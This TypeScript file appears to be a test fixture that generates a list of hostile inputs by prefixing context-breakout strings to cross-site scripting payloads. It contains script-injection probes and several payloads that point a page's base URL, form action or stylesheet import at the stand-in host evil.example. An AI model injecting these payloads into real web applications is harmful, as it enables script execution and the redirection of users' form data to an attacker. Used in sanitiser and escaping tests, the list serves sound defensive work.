import { EVIL_URLS, HOSTILE } from './events.ts';

/** Prefixes that break out of a text, an attribute, a comment, a template or an address. */
const BREAKOUTS = [
  '',
  '">',
  "'>",
  '` ',
  '</p>',
  '</script>',
  '-->',
  ']]>',
  '\u0000',
  '\u202e',
  '{{',
  '%3E',
  '&gt;',
  'javascript:',
];
const HARMS = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<math><mtext><style><img src=x onerror=alert(1)>',
  '" onfocus=alert(1) autofocus x="',
  "' onmouseover=alert(1) style='position:fixed;inset:0",
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><button>x',
  '<template shadowrootmode=open><script>alert(1)</script>',
  '<style>@import "https://evil.example/";</style>',
];

/** At least 200 strings that attack, or that break careless code. */
export const MANY_HOSTILE = [
  ...new Set([...HOSTILE, ...EVIL_URLS, ...BREAKOUTS.flatMap((out) => HARMS.map((harm) => out + harm))]),
];
